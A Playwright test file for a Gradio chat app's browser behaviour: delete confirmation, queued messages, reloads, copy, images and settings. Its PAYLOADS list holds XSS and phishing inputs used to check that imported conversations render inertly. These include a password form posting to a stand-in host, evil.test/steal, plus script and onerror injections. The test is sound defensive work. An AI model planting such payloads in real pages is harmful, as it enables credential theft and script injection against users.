"""The chat app keeps what people give it and shows nothing it was not meant to, in headless Chromium on tiny-gill:
deleting asks first; text sent while an answer runs is sent after it (Enter or the arrow, during an answer or a
Regenerate); a reload mid-answer shows the answer finishing; an imported conversation full of HTML and outside
images renders none of it and the page fetches nothing from another host; Copy gives the words; an image opens full
size; the settings stay with the browser."""

from __future__ import annotations

import json
import re
import sys
import time
from pathlib import Path
from urllib.parse import urlparse

import pytest

pytest.importorskip("gradio")
playwright_api = pytest.importorskip("playwright.sync_api")

from browser_helpers import (  # noqa: E402 (after the skips)
    MARKS,
    bot_messages,
    chat_text,
    delete_chat,
    free_port,
    open_page,
    send,
    user_texts,
    wait_idle,
)

ROOT = Path(__file__).resolve().parents[1]
CAT = ROOT / "assets" / "images" / "chelsea.jpg"
pytestmark = MARKS
sys.path.insert(0, str(ROOT))

LM_DELAY_S = {"value": 0.0}  # per LM forward: slows the tiny model so that an action lands mid-answer
FORM = '<form action="http://evil.test/steal"><input type="password" name="p"><button>Log in</button></form>'
PAYLOADS = [FORM, "![t](http://evil.test/x.png)", "<script>window.__pwned = 1</script>",
            '<img src="http://evil.test/y.png" onerror="window.__pwned = 2">']  # fmt: skip


@pytest.fixture(scope="module")
def server(tiny_gill, tmp_path_factory):
    import app

    model = tiny_gill.model
    forward = model.forward_lm

    def slow(*args, **kwargs):
        time.sleep(LM_DELAY_S["value"])
        return forward(*args, **kwargs)

    model.forward_lm = slow  # instance attribute, removed below
    defaults = dict(max_new_tokens=40, mode="text")
    options = app.AppOptions(
        indexes=app.load_indexes(None, tiny_gill), cache_dir=tmp_path_factory.mktemp("cache"), defaults=defaults
    )
    demo = app.build_demo(tiny_gill, options)
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, **app.launch_style())
    yield f"http://127.0.0.1:{port}/"
    demo.close()
    del model.forward_lm


def slowly(page, text: str) -> None:
    """Send ``text`` with the model slowed, until its answer has started streaming."""
    LM_DELAY_S["value"] = 0.08
    send(page, text)
    page.locator("#stop").wait_for()
    page.wait_for_function(
        "() => { const r = document.querySelectorAll('#chatbot .message-row.bot-row');"
        " return r.length && r[r.length - 1].innerText.trim().length > 3 && !r[r.length - 1].innerText.includes('…'); }"
    )


def test_deleting_asks_first(server):
    with open_page(server) as page:
        send(page, "keep me")
        wait_idle(page)
        page.locator("#clear").click()
        page.locator("#confirm").wait_for()
        assert user_texts(page) == ["keep me"], "nothing is deleted on the first click"
        page.locator("#keep").click()
        page.locator("#confirm").wait_for(state="hidden")
        assert user_texts(page) == ["keep me"]
        page.locator("#sidebar").get_by_text("keep me").first.wait_for()
        assert page.locator("#chatbot button[aria-label='Clear']").is_hidden(), "no trash icon that deletes at once"
        page.locator("#delete").click()  # the sidebar's Delete asks too
        page.locator("#confirm").wait_for()
        page.locator("#confirm_delete").click()
        page.wait_for_function("() => document.querySelectorAll('#chatbot .message-row').length === 0")
        page.locator("#confirm").wait_for(state="hidden")
        page.wait_for_function("() => !document.querySelector('#sidebar').innerText.includes('keep me')")


def test_the_sidebar_renames_and_dates_conversations(server):
    with open_page(server) as page:
        send(page, "a message to rename")
        wait_idle(page)
        page.locator("#sidebar").get_by_text("a message to rename · just now").first.wait_for()
        page.locator("#rename").click()  # no name typed: a warning
        page.locator(".toast-wrap").get_by_text("Type a name").first.wait_for()
        page.locator("#rename_text textarea, #rename_text input").first.fill("Cats, day one")
        page.locator("#rename").click()  # then a notice: one toast at a time, the newest
        page.locator("#sidebar").get_by_text("Cats, day one · just now").first.wait_for()
        page.locator(".toast-wrap").get_by_text("Renamed to").first.wait_for()
        assert page.locator(".toast-wrap .toast-body:visible").count() == 1
        send(page, "and more")  # a new turn keeps the name
        wait_idle(page)
        page.reload()
        page.locator("#sidebar").get_by_text("Cats, day one").first.wait_for()


@pytest.mark.parametrize("how", ["enter", "arrow", "during regenerate"])
def test_text_sent_mid_answer_is_sent_after_it(server, how):
    with open_page(server) as page:
        if how == "during regenerate":
            send(page, "first")
            wait_idle(page)
            LM_DELAY_S["value"] = 0.08
            page.locator("#regenerate").click()
            page.locator("#stop").wait_for()
        else:
            slowly(page, "first")
        try:
            page.locator("#message textarea").fill("second, typed meanwhile")
            if how == "arrow":
                page.locator("#message button.submit-button").click()
            else:
                page.locator("#message textarea").press("Enter")
            page.wait_for_timeout(300)
        finally:
            LM_DELAY_S["value"] = 0.0
        try:
            page.wait_for_function("() => document.querySelectorAll('#chatbot .message-row.bot-row').length >= 2")
        except playwright_api.TimeoutError:
            raise AssertionError(f"the second message was not sent; the chat shows {chat_text(page)!r}") from None
        wait_idle(page)
        assert user_texts(page) == ["first", "second, typed meanwhile"]
        assert page.locator("#message textarea").input_value() == "", "sent, so no longer in the box"
        assert page.locator("#stop").is_hidden()


def test_a_reload_mid_answer_shows_the_finished_answer(server):
    with open_page(server) as page:
        slowly(page, "a long answer please")
        partial = bot_messages(page).last.inner_text().strip()
        page.reload()  # the answer goes on, on the server
        page.wait_for_selector("#message textarea")
        page.wait_for_function("() => document.querySelectorAll('#chatbot .message-row.bot-row').length >= 1")
        page.locator("#stop").wait_for()  # still answering, shown live
        LM_DELAY_S["value"] = 0.0
        page.locator("#stop").wait_for(state="hidden", timeout=60_000)
        wait_idle(page)
        finished = bot_messages(page).last.inner_text().strip()
        assert "interrupted" not in finished and "(stopped)" not in finished
        assert finished.startswith(partial[:10]) and len(finished) > len(partial)
        page.reload()  # and it was stored whole
        page.wait_for_function("() => document.querySelectorAll('#chatbot .message-row.bot-row').length >= 1")
        assert bot_messages(page).last.inner_text().strip() == finished
        assert user_texts(page) == ["a long answer please"]


def hostile_export(page, tmp_path: Path) -> Path:
    """A conversation of the page exported as JSON, its texts then replaced by the payloads (as a hostile file)."""
    page.locator("#export").get_by_text("Export / load").first.click()
    page.locator("#export_json").click()
    href = page.wait_for_function(
        "() => { const a = document.querySelector('#export_file a[href*=\"conversation.json\"]'); return a && a.href; }"
    ).json_value()
    data = json.loads(page.request.get(href).body())
    for turn in data["turns"]:
        turn.pop("tokens", None)
        turn["segments"] = [{"type": "text", "text": p} for p in PAYLOADS]
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return path


def test_an_imported_conversation_runs_nothing_and_fetches_nothing_outside(server, tmp_path):
    with open_page(server, accept_downloads=True) as page:
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        send(page, " ".join(PAYLOADS))  # typed: shown as text too
        wait_idle(page)
        path = hostile_export(page, tmp_path)
        delete_chat(page)
        with page.expect_file_chooser() as chooser:
            page.locator("#load_json").click()
        chooser.value.set_files(str(path))
        page.get_by_text("Loaded a conversation of 1 exchange from").first.wait_for()
        wait_idle(page)
        page.reload()  # and as stored
        page.wait_for_function("() => document.querySelectorAll('#chatbot .message-row').length >= 4")
        page.wait_for_timeout(1000)
        chat = page.locator("#chatbot")
        assert chat.locator("form, input[type=password], script, iframe").count() == 0
        assert chat.locator("img").count() == 0, "no image but the app's own"
        assert page.evaluate("() => window.__pwned") is None
        assert "<form action=" in chat.inner_text(), "shown as the text it is"
        outside = {urlparse(u).hostname for u in requests} - {"127.0.0.1"}
        assert not outside, f"the page fetched from {outside}"
        page.locator("#export").get_by_text("Export / load").first.click()  # closed again by the reload
        page.locator("#export_html").click()
        href = page.wait_for_function(
            "() => { const a = document.querySelector('#export_file a[href*=\"conversation.html\"]');"
            " return a && a.href; }"
        ).json_value()
        exported = page.request.get(href).text()
        assert "<form" not in exported and "<script" not in exported and 'src="http' not in exported
        assert "&lt;form action=" in exported


def test_copy_gives_the_words_and_an_image_opens_full_size(server):
    with open_page(server, permissions=["clipboard-read", "clipboard-write"]) as page:
        page.locator("#settings").get_by_text("Settings").first.click()
        page.locator("#set_mode label").filter(has_text="retrieve").first.click()
        page.locator("#set_image_bias input[type=number]").fill("20")
        page.locator("#set_image_bias input[type=number]").press("Tab")
        send(page, "show me *something*", [CAT])
        page.wait_for_function("() => document.querySelectorAll('#chatbot .message-row.bot-row img').length >= 1")
        wait_idle(page)
        answer = bot_messages(page).last
        answer.hover()
        page.locator("#chatbot button[aria-label='Copy message']").last.click()
        page.wait_for_timeout(500)
        copied = page.evaluate("() => navigator.clipboard.readText()")
        words = answer.inner_text()
        assert copied and copied in words, (copied, words)
        for noise in ("/gradio_api/file=", "<", "![", "Retrieved", "decision:"):
            assert noise not in copied, f"{noise!r} in the copied text {copied!r}"
        page.locator("#chatbot button[aria-label='Copy conversation']").click()
        page.wait_for_timeout(500)
        everything = page.evaluate("() => navigator.clipboard.readText()")
        assert everything.startswith("You: show me something") and "/gradio_api/file=" not in everything

        image = answer.locator("img").first
        shown = image.evaluate("i => [i.clientWidth, i.naturalWidth]")
        with page.context.expect_page() as opened:
            image.click()
        full = opened.value
        full.wait_for_load_state()
        size = full.evaluate(
            "() => { const i = document.querySelector('img'); return [i.naturalWidth, i.naturalHeight]; }"
        )
        assert size[0] == shown[1] and size[0] >= shown[0], "the image itself, at its full size"
        assert "/gradio_api/file=" in full.url and full.url.endswith(".png")
        assert page.request.get(full.url).headers["content-type"] == "image/png"  # to save with the browser


def test_settings_stay_with_the_browser(server):
    with open_page(server) as page:
        page.locator("#settings").get_by_text("Settings").first.click()
        box = page.locator("#set_temperature input[type=number]")
        kept = "() => window.localStorage.getItem('fromage_gill_settings')"
        before = page.evaluate(kept)
        box.fill("0.7")
        box.press("Tab")
        # the browser keeps the change once the server's answer reaches it (a fixed wait lost it on a loaded machine)
        page.wait_for_function(f"before => ({kept})() !== before", arg=before, timeout=30_000)
        page.reload()
        page.wait_for_selector("#message textarea")
        page.locator("#settings").get_by_text("Settings").first.click()
        page.wait_for_function("() => document.querySelector('#set_temperature input[type=number]')?.value === '0.7'")
        help_text = page.locator("#settings").inner_text()
        assert "logits" not in help_text.lower() and "published" not in help_text.lower()
        limit = re.search(r"Up to (\d+): what the model's context leaves", help_text)
        assert limit and int(limit[1]) % 16 == 0, "the answer-length range is round and says where its end comes from"


def test_the_sidebar_is_open_on_a_desktop_and_closed_on_a_phone(server):
    with open_page(server) as page:
        assert "open" in page.locator("#sidebar").get_attribute("class")
        page.set_viewport_size({"width": 390, "height": 800})
        page.reload()
        page.wait_for_selector("#message textarea")
        page.wait_for_function("() => !document.querySelector('#sidebar').classList.contains('open')")
        assert page.locator("#message textarea").is_visible()
